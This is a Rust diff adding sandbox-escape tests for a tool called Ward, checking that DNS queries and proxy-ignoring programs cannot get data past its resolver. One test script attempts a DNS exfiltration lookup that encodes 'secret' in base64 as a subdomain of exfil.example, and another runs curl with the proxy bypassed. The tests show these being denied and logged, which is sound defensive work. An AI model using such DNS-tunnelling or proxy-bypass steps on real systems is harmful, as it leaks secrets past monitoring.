@@ -192,8 +192,13 @@ fn escape_via_a_dns_query_from_inside() {
             })
             .collect();
         assert!(dns.iter().any(|r| r["dest"] == "44.1.1.2:53"), "{recs:?}");
+        // The libc resolver's query went to the sandbox's own resolver, which refused the name
+        // (NXDOMAIN) on record.
         assert!(
-            dns.len() >= 2,
+            recs.iter().any(|r| r["kind"] == "net.direct"
+                && r["resource"] == "example.com"
+                && r["decision"]["by"] == "builtin:dns"
+                && r["decision"]["result"] == "deny"),
             "the resolver's own query is not on record: {recs:?}"
         );
     });
@@ -289,6 +294,84 @@ fn escape_via_the_hosts_loopback_beyond_the_service_the_manifest_names() {
                 && r["decision"]["result"] == "deny"
                 && r["resource"].as_str().unwrap_or("").contains(":5433")),
             "{recs:?}"
+        );
+    });
+}
+
+#[test]
+fn escape_via_dns_past_the_sandboxs_resolver() {
+    // Programs that ignore the proxy variables reach an allowed name through the sandbox's own
+    // resolver and hosts file (its address inside, carried by Ward to the real one); any other
+    // name is NXDOMAIN and on record, so a query cannot carry data out.
+    with_servers(|hits| {
+        // On this side, `model.test` is the first test server (a private /etc/hosts for this
+        // thread's processes: ward's proxy resolves with it).
+        // SAFETY: unshare for this thread only.
+        assert_eq!(unsafe { libc::unshare(libc::CLONE_NEWNS) }, 0);
+        let hosts = tempfile::NamedTempFile::new().unwrap();
+        std::fs::write(hosts.path(), "127.0.0.1 localhost\n44.1.1.1 model.test\n").unwrap();
+        for cmd in [
+            "mount --make-rprivate /".to_string(),
+            format!("mount --bind {} /etc/hosts", hosts.path().display()),
+        ] {
+            assert!(
+                Command::new("sh")
+                    .arg("-c")
+                    .arg(&cmd)
+                    .status()
+                    .unwrap()
+                    .success(),
+                "{cmd}"
+            );
+        }
+        let e = Env::new();
+        // (The test server is on this network namespace's own address, which the manifest
+        // must name as well for the proxy to reach it.)
+        let manifest = "[[files]]\npath = \"PROJ\"\nmode = \"direct\"\n[network]\n\
+                        allow = [\"http://model.test\", \"http://44.1.1.1\"]\n";
+        let script = "getent hosts model.test; \
+            node -e \"fetch('http://model.test/n').then(r => r.text()).then(t => console.log('NODE', t), x => console.log('NODE-FAILED', x.cause ? x.cause.code : x))\"; \
+            curl -s -m 10 --noproxy '*' http://model.test/c; echo; \
+            python3 -c \"import socket\ntry: print('RESOLVED', socket.gethostbyname('c2VjcmV0.exfil.example'))\nexcept Exception as x: print('NO-NAME', x)\"; \
+            true";
+        let o = e.run_manifest(manifest, "/bin/sh", script);
+        let t = text(&o);
+        let agent = String::from_utf8_lossy(&o.stdout);
+        assert!(
+            agent.contains("127.77.0.1      model.test") || agent.contains("127.77.0.1 model.test"),
+            "{t}"
+        );
+        assert!(
+            agent.contains("NODE hello from 44.1.1.1:80"),
+            "Node's fetch, which ignores proxy variables: {t}"
+        );
+        assert!(
+            agent.contains("hello from 44.1.1.1:80\n") && agent.matches("hello from").count() == 2,
+            "{t}"
+        );
+        assert!(
+            agent.contains("NO-NAME") && !agent.contains("RESOLVED"),
+            "{t}"
+        );
+        assert_eq!(hits[0].load(Ordering::SeqCst), 2);
+        assert_eq!(hits[1].load(Ordering::SeqCst), 0);
+        e.assert_recorded();
+        let recs = e.records();
+        assert_eq!(
+            recs.iter()
+                .filter(|r| r["kind"] == "net.connect"
+                    && r["detail"]["via"] == "name"
+                    && r["resource"] == "http://model.test:80"
+                    && r["decision"]["result"] == "allow")
+                .count(),
+            2,
+            "{recs:?}"
+        );
+        assert!(
+            recs.iter().any(|r| r["kind"] == "net.direct"
+                && r["resource"] == "c2vjcmv0.exfil.example"
+                && r["decision"]["result"] == "deny"),
+            "the query is on record: {recs:?}"
         );
     });
 }
